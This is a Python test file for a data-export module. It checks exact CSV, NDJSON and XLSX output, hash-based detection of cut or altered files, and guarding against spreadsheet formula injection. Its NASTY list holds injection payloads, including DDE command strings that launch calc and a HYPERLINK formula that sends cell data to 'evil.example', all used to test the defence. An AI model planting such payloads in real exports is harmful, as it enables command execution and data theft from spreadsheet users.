"""What the three formats write, byte for byte, and how a whole file is told from a cut one. No database."""

import csv
import hashlib
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from partnerships.exports import Incomplete, csv_bytes, ndjson_bytes, verify, xlsx_bytes
from partnerships.exports.formulas import guarded, harmless, unguarded
from partnerships.exports.xlsx import CUT, MOST_CHARACTERS, unescaped

HEADER = ["id", "title", "amount", "ends_on"]
BLOCKS = [
    [
        [7, 8],
        ["Memorandum, “final”", 'A "plan"\nin two lines'],
        [Decimal("1200000.50"), None],
        ["2013", "../2013-05-21"],
    ],
    [[9], ["=1+1"], [Decimal("3.00")], [None]],
]
CSV = (
    "\ufeffid,title,amount,ends_on\r\n"
    '7,"Memorandum, “final”",1200000.50,2013\r\n'
    '8,"A ""plan""\nin two lines",,../2013-05-21\r\n'
    "9,'=1+1,3.00,\r\n"
).encode()
ROWS = ['{"slug":"fifa","parties":["Fédération"]}', '{"slug":"unv","ends_on":null}']
NDJSON = '{"slug":"fifa","parties":["Fédération"]}\n{"slug":"unv","ends_on":null}\n'.encode()

NASTY = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "=",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n",
    "'",
    "''",
    "'=1",
    "''=1",
    "'''@x",
    "'\t",
    "'quoted' words",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'＝1",
    " =1",
    "a=1",
    "",
    '"',
    '"=1"',
    "x;=1",
    "x\n=1",
    "%0A=1",
    "_x003D_1+1",
    "_x",
    "\x0b\x1f=1",
    "\x0c",
    "<b>&amp;</b>]]>",
    "  spaces kept  ",
    "\u202e=1",
    "🎈",
    "#complete,rows=0,sha256=0",
]
RISKY = tuple("=+-@\t\r\n＝＋－＠")


def cut(data, format):
    """The lengths at which the beginning of this file passes for a whole one."""
    passed = []
    for length in range(len(data)):
        try:
            verify(data[:length], format)
        except Incomplete:
            continue
        passed.append(length)
    return passed


def book(data):
    return openpyxl.load_workbook(io.BytesIO(data), read_only=True)


def test_csv_byte_for_byte():
    proof = f"#complete,rows=3,sha256={hashlib.sha256(CSV).hexdigest()}\r\n".encode()
    pieces = list(csv_bytes(HEADER, BLOCKS))
    assert b"".join(pieces) == CSV + proof
    assert len(pieces) == 3  # one for each block, as it comes, and the proof
    assert verify(CSV + proof, "csv") == 3


def test_ndjson_byte_for_byte():
    proof = f'{{"complete": true, "rows": 2, "sha256": "{hashlib.sha256(NDJSON).hexdigest()}"}}\n'.encode()
    assert b"".join(ndjson_bytes(ROWS)) == NDJSON + proof
    assert verify(NDJSON + proof, "ndjson") == 2


def test_xlsx_opens_and_has_its_numbers_and_its_proof():
    data = b"".join(xlsx_bytes("agreements", HEADER, BLOCKS))
    assert data == b"".join(xlsx_bytes("agreements", HEADER, BLOCKS))
    opened = book(data)
    assert opened.sheetnames == ["agreements", "complete"]
    assert list(opened["agreements"].values) == [
        tuple(HEADER),
        (7, "Memorandum, “final”", 1200000.5, "2013"),
        (8, 'A "plan"\nin two lines', None, "../2013-05-21"),
        (9, "=1+1", 3, None),
    ]
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    proof = [("complete", "true"), ("rows", 3), ("sha256", hashlib.sha256(sheet).hexdigest())]
    assert list(opened["complete"].values) == proof
    assert verify(data, "xlsx") == 3


@pytest.mark.parametrize("blocks", [[], BLOCKS])
def test_a_file_cut_at_any_byte_is_known_to_be_incomplete(blocks):
    rows = ROWS if blocks else []
    assert cut(b"".join(csv_bytes(HEADER, blocks)), "csv") == []
    assert cut(b"".join(ndjson_bytes(rows)), "ndjson") == []
    assert cut(b"".join(xlsx_bytes("agreements", HEADER, blocks)), "xlsx") == []


@pytest.mark.parametrize("format", ["csv", "ndjson", "xlsx"])
def test_a_changed_file_is_told_from_the_one_that_was_downloaded(format):
    data = {
        "csv": b"".join(csv_bytes(HEADER, BLOCKS)),
        "ndjson": b"".join(ndjson_bytes(ROWS)),
        "xlsx": b"".join(xlsx_bytes("agreements", HEADER, BLOCKS)),
    }[format]
    for place in range(0, len(data), 7):
        changed = data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :]
        try:
            # Some bytes of an archive say nothing of its contents: then the contents are what they were.
            assert verify(changed, format) == verify(data, format)
            assert format == "xlsx"
            assert list(book(changed).worksheets[0].values) == list(book(data).worksheets[0].values)
        except Incomplete:
            continue


def test_what_breaks_off_ends_without_a_proof():
    def breaking():
        yield BLOCKS[0]
        raise OSError("the database went away")

    def rows():
        yield ROWS[0]
        raise OSError("the database went away")

    for format, pieces in {
        "csv": csv_bytes(HEADER, breaking()),
        "xlsx": xlsx_bytes("agreements", HEADER, breaking()),
        "ndjson": ndjson_bytes(rows()),
    }.items():
        sent = []
        with pytest.raises(OSError, match="went away"):
            sent.extend(pieces)
        with pytest.raises(Incomplete):
            verify(b"".join(sent), format)


@pytest.mark.parametrize("text", NASTY)
def test_no_cell_of_a_csv_can_be_a_formula_and_each_is_read_back_exactly(text):
    data = b"".join(csv_bytes(["title"], [[[text]]]))
    _header, row, *_proof = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    written = row[0] if row else ""
    assert not written.startswith(RISKY)
    assert unguarded(written) == text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("others", [[], ["plain"], [None], ["a, b", 'say "so"', None], [Decimal("-1.50"), 0, -7]])
def test_a_csv_is_what_the_csv_module_writes(others):
    texts = [*NASTY, *others, *NASTY]
    block = [texts, ['same, "same"'] * len(texts), [""] * len(texts), [None] * len(texts), range(-1, len(texts) - 1)]
    for rows in (len(texts), len(NASTY), 1):
        cells = [list(column)[-rows:] for column in block]
        expected = io.StringIO(newline="")
        csv.writer(expected).writerows(zip(*map(harmless, cells), strict=True))
        data = b"".join(csv_bytes(["a", "b", "c", "d", "e"], [cells]))
        assert data.decode("utf-8-sig").removeprefix("a,b,c,d,e\r\n").rpartition("#")[0] == expected.getvalue()


@pytest.mark.parametrize("text", NASTY)
def test_every_text_of_an_xlsx_is_text_and_is_read_back_exactly(text):
    opened = book(b"".join(xlsx_bytes("agreements", ["title"], [[[text]]])))["agreements"]
    cell = list(opened.rows)[1][0]
    assert unescaped(cell.value or "") == text
    assert cell.data_type in ("inlineStr", "n" if not text else "s")


def test_a_text_too_long_for_xlsx_says_that_it_was_cut():
    opened = book(b"".join(xlsx_bytes("agreements", ["title"], [[["é" * 40_000]]])))["agreements"]
    value = list(opened.values)[1][0]
    assert len(value) == MOST_CHARACTERS
    assert value.endswith("é" + CUT)


def test_a_number_too_long_for_a_spreadsheet_stays_exact_as_text():
    amount = Decimal("12345678901234.56")
    opened = book(b"".join(xlsx_bytes("agreements", ["amount"], [[[amount]]])))["agreements"]
    assert list(opened.values)[1] == ("12345678901234.56",)


def test_no_row_of_ndjson_can_be_taken_for_the_proof():
    fake = f'{{"complete":true,"rows":0,"sha256":"{hashlib.sha256(b"").hexdigest()}"}}'
    data = b"".join(ndjson_bytes([fake, fake]))
    assert cut(data, "ndjson") == []
    assert verify(data, "ndjson") == 2
